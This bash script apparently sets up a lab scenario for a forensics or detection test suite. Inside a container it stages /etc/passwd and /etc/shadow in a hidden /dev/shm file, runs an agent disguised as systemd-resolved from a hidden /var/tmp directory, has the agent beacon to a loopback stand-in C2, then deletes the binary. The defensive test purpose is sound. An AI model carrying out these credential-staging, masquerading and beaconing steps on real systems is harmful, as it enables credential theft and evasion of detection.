#!/bin/bash
# Scenario deleted-exe: a program run from a file deleted after it started, with account data
# staged in /dev/shm. An attacker's shell (exec'd later) drops a small ELF agent (built here from
# specimens/memfd/payload.c) in a hidden directory under /var/tmp, runs it under a daemon's
# name, deletes it (CRIU keeps the content as a ghost file), and concatenates /etc/passwd and
# /etc/shadow into /dev/shm/.sessions/sess_<hex> (the container's own noexec /dev/shm). The
# agent beacons to 127.116.x.y and keeps the connection.
# Usage: lab/scenarios/deleted-exe.sh OUTDIR
source "$(dirname "$0")/../lib/common.sh"
lab_init deleted-exe "$@"

C2="$(lab_addr 116):$(lab_pick 80 8080 53 443)"
DROPDIR=/var/tmp/.systemd-private-$(lab_hex 8)
AGENT=$DROPDIR/systemd-resolved
STAGED=/dev/shm/.sessions/sess_$(lab_hex 10)
TAG="rsv/$(lab_rand 1 9).$(lab_rand 0 99)"
lab_build_agent "$WORK/agent" "$TAG" RESOLV_UPSTREAM

lab_peer_on c2 "$C2" perl "$PEERS/sink.pl" --listen "$C2" --summary "$WORK/peer-c2.json"

lab_run --env APP_ENV=prod --hostname thumbnailer -- sh -c 'date > /var/log/app.log; while :; do sleep 3600; done'
lab_cp "$WORK/agent" "$AGENT" 0755
lab_exec_bg "mkdir -p ${STAGED%/*} && cat /etc/passwd /etc/shadow > $STAGED && RESOLV_UPSTREAM=$C2 exec $AGENT"
lab_wait "agent beaconed" 15 lab_json "$WORK/peer-c2.json" 'd["sessions"] and d["sessions"][0]["bytes_read"] > 0'
lab_cexec rm -f "$AGENT" || lab_die "rm failed"

lab_finish "$AGENT" "$DROPDIR" "$STAGED"

lab_kv_json "$WORK/params.json" "c2=$C2" "agent_path=$AGENT" "agent_deleted:=true" "staged_copy=$STAGED" \
    "staged_from:=$(lab_json_list /etc/passwd /etc/shadow)" "agent_tag=$TAG" \
    "agent_sha256=$(sha256sum "$WORK/agent" | cut -d' ' -f1)" "env=RESOLV_UPSTREAM=$C2"
lab_facts --conn "agent=$C2"
lab_truth --description "program run from a deleted file ($AGENT) beaconing to $C2, passwd+shadow staged at $STAGED" \
    --params "$WORK/params.json" --facts "$WORK/facts.json"
